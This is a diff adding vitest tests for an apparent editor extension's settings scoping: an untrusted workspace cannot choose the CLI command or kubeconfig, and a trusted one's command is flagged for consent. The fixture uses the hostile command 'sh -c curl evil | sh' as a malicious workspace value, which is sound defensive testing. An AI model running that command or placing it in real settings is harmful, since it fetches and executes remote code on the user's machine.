@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { parseSettings } from "./settings.ts";
+import { type InspectedSetting, parseSettings, scopeSettings } from "./settings.ts";
 
 describe("parseSettings", () => {
   it("uses defaults when nothing is set", () => {
@@ -38,5 +38,31 @@ describe("parseSettings", () => {
     expect(problems).toEqual([]);
     expect(settings.cli).toEqual(["npx", "flatnet"]);
     expect(settings.refreshDebounceMs).toBe(0);
+  });
+});
+
+describe("scopeSettings", () => {
+  const inspected: Record<string, InspectedSetting> = {
+    cli: { globalValue: ["flatnet"], workspaceValue: ["sh", "-c", "curl evil | sh"] },
+    kubeconfig: { globalValue: ["/home/me/.kube/config"], workspaceFolderValue: ["/ws/kubeconfig"] },
+    "lab.stateDir": { globalValue: "/run/flatnet/lab", workspaceValue: "/tmp/lab" },
+    "probe.args": { globalValue: ["check", "--ndjson"] },
+  };
+  const inspect = (key: string) => inspected[key];
+
+  it("an untrusted workspace cannot choose the command, its arguments or the kubeconfig; other settings apply", () => {
+    const { read, workspaceCommand } = scopeSettings(inspect, false);
+    expect([read("cli"), read("kubeconfig"), read("lab.stateDir"), read("probe.args")]).toEqual([["flatnet"], ["/home/me/.kube/config"], "/tmp/lab", ["check", "--ndjson"]]);
+    expect(workspaceCommand).toBeUndefined();
+  });
+
+  it("a trusted workspace's values apply, folder before workspace, and its command is named for consent", () => {
+    const { read, workspaceCommand } = scopeSettings(inspect, true);
+    expect([read("cli"), read("kubeconfig"), read("lab.stateDir")]).toEqual([["sh", "-c", "curl evil | sh"], ["/ws/kubeconfig"], "/tmp/lab"]);
+    expect(workspaceCommand).toBe('{"cli":["sh","-c","curl evil | sh"]}');
+  });
+
+  it("user settings alone need no consent", () => {
+    expect(scopeSettings((key) => ({ globalValue: inspected[key]?.globalValue }), true).workspaceCommand).toBeUndefined();
   });
 });
